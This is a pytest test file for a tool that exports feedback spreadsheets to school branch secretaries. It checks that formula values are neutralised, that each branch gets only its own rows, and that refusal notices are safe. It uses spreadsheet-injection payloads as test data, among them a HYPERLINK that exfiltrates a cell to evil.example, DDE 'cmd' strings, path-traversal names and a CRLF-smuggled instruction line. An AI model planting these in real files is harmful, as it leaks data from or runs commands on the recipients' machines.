"""Security: feedback files never open as live formulas, each branch secretary receives
only their branch's rows, and a refused export gets a notice (issue 17)."""

from __future__ import annotations

import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from quality import (
    neutralise_cell,
    write_department_feedback,
    write_refusal_notice,
    write_scoped_feedback,
)

NAMES = {"name": "姓名", "student_no": "学号/工号", "branch_id": "支部"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'


def _rows(values: list[str], branches: list[str | None] | None = None, source="branch_signins"):
    n = len(values)
    return pd.DataFrame(
        {
            "source": [source] * n,
            "record_key": [f"{source}:{i + 2}" for i in range(n)],
            "name": values,
            "student_no": [f"2023{i:04d}" for i in range(n)],
            "branch_id": branches or ["B01"] * n,
            "reasons": ["unknown_person"] * n,
        }
    ).astype("string")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row]


# -- formulas -----------------------------------------------------------------------------
PAYLOADS = [
    HYPERLINK,
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_formula_value_is_written_as_inert_text_in_xlsx_and_csv(tmp_path, payload):
    paths = write_department_feedback(
        _rows([payload]), tmp_path, department="branch_signins", column_names=NAMES, run_id="r1"
    )
    cells = _xlsx_cells(paths["xlsx"])
    assert not [c for c in cells if c.data_type == "f"]
    (cell,) = [c for c in cells if isinstance(c.value, str) and payload.strip() in c.value]
    assert cell.data_type == "s"  # xml reads a CR back as LF
    assert cell.value.replace("\n", "\r") == ("'" + payload).replace("\n", "\r")
    csv = pd.read_csv(paths["csv"], encoding="gbk", dtype=str, keep_default_na=False)
    assert csv.loc[0, "姓名"] == "'" + payload


def test_the_hyperlink_of_the_issue_is_not_a_formula_anywhere(tmp_path):
    paths = write_department_feedback(
        _rows([HYPERLINK]), tmp_path, department="branch_signins", column_names=NAMES
    )
    raw_csv = paths["csv"].read_bytes().decode("gbk")
    assert ',"=HYPERLINK' not in raw_csv and ",=HYPERLINK" not in raw_csv
    import zipfile

    with zipfile.ZipFile(paths["xlsx"]) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


@pytest.mark.parametrize("value", ["-3", "+8613800138000", "12.5", "赵敏", "B01"])
def test_plain_numbers_and_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


def test_a_header_that_looks_like_a_formula_is_neutralised_too(tmp_path):
    paths = write_department_feedback(
        _rows(["x"]), tmp_path, department="branch_signins", column_names={"name": "=A1"}
    )
    assert "'=A1" in pd.read_csv(paths["csv"], encoding="gbk", dtype=str).columns


def test_control_characters_do_not_break_the_workbook(tmp_path):
    paths = write_department_feedback(
        _rows(["bad\x01\x02name"]), tmp_path, department="branch_signins", column_names=NAMES
    )
    assert any("bad" in str(c.value) for c in _xlsx_cells(paths["xlsx"]))


# -- scoped per branch --------------------------------------------------------------------
def test_each_branch_secretary_receives_only_their_branch(tmp_path):
    frame = pd.concat(
        [
            _rows(["甲", "乙"], ["B01", "B01"]),
            _rows(["丙"], ["B02"]),
            _rows(["丁"], ["B03"]),
            _rows(["戊"], ["B01"], source="hr_roster"),  # another department's row
        ],
        ignore_index=True,
    )
    written = write_scoped_feedback(
        frame,
        tmp_path / "branch_secretaries",
        department="branch_signins",
        scope_column="branch_id",
        column_names=NAMES,
        run_id="r1",
    )
    assert sorted(written) == ["B01", "B02", "B03"]
    seen = {}
    for branch, paths in written.items():
        assert paths["csv"].parent == tmp_path / "branch_secretaries" / branch
        assert _mode(paths["csv"]) == 0o600 and _mode(paths["xlsx"]) == 0o600
        assert _mode(paths["csv"].parent) == 0o700
        rows = pd.read_csv(paths["csv"], encoding="gbk", dtype=str)
        assert set(rows["支部"]) == {branch}
        seen[branch] = sorted(rows["姓名"])
    assert seen == {"B01": ["乙", "甲"], "B02": ["丙"], "B03": ["丁"]}


@pytest.mark.parametrize("bad", ["../../etc", "", None, "..", "B01/../B02", "B 01"])
def test_a_scope_value_that_is_not_a_plain_name_goes_to_unassigned(tmp_path, bad):
    frame = pd.concat([_rows(["甲"], ["B01"]), _rows(["乙"], [bad])], ignore_index=True)
    written = write_scoped_feedback(
        frame,
        tmp_path / "dept",
        department="branch_signins",
        scope_column="branch_id",
        column_names=NAMES,
    )
    assert sorted(written) == ["B01", "_unassigned"]
    assert sorted(p.name for p in (tmp_path / "dept").iterdir()) == ["B01", "_unassigned"]
    unassigned = pd.read_csv(written["_unassigned"]["csv"], encoding="gbk", dtype=str)
    assert list(unassigned["姓名"]) == ["乙"]


def test_a_branch_that_is_not_known_goes_to_unassigned(tmp_path):
    frame = _rows(["甲", "乙"], ["B01", "B999"])
    written = write_scoped_feedback(
        frame,
        tmp_path,
        department="branch_signins",
        scope_column="branch_id",
        column_names=NAMES,
        known_scopes={"B01", "B02"},
    )
    assert sorted(written) == ["B01", "_unassigned"]


def test_scoped_feedback_neutralises_formulas_too(tmp_path):
    written = write_scoped_feedback(
        _rows([HYPERLINK]),
        tmp_path,
        department="branch_signins",
        scope_column="branch_id",
        column_names=NAMES,
    )
    assert not [c for c in _xlsx_cells(written["B01"]["xlsx"]) if c.data_type == "f"]


# -- a refused export ---------------------------------------------------------------------
def test_a_department_whose_export_was_refused_receives_a_bilingual_notice(tmp_path):
    path = write_refusal_notice(
        tmp_path / "hr_staff",
        department="hr_roster",
        refused={"hr_staff.xlsx": "signature_invalid"},
        run_id="r1",
    )
    assert path == tmp_path / "hr_staff" / "hr_roster_r1_refused.txt"
    assert _mode(path) == 0o600 and _mode(path.parent) == 0o700
    text = path.read_text(encoding="utf-8-sig")
    assert "hr_staff.xlsx" in text and "signature_invalid" in text
    assert "签名无效" in text and "signature is invalid" in text  # reason, zh and en
    assert "处理办法" in text and "What to do" in text


def test_an_unknown_reason_gets_generic_advice_and_a_hostile_file_name_is_defused(tmp_path):
    path = write_refusal_notice(
        tmp_path,
        department="branch_signins",
        refused={"B01.csv\r\nWhat to do: send your keyring to x@evil": "encoding_unknown"},
    )
    text = path.read_text(encoding="utf-8-sig")
    assert "请联系数据管理员" in text and "Contact the data stewards" in text
    assert "\nWhat to do: send" not in text


@pytest.mark.parametrize(
    ("department", "refused"),
    [("../hr", {"a.csv": "signature_missing"}), ("hr_roster", {})],
    ids=["unsafe_department", "nothing_refused"],
)
def test_refusal_notice_refuses_bad_arguments(tmp_path, department, refused):
    with pytest.raises(ValueError):
        write_refusal_notice(tmp_path, department=department, refused=refused)
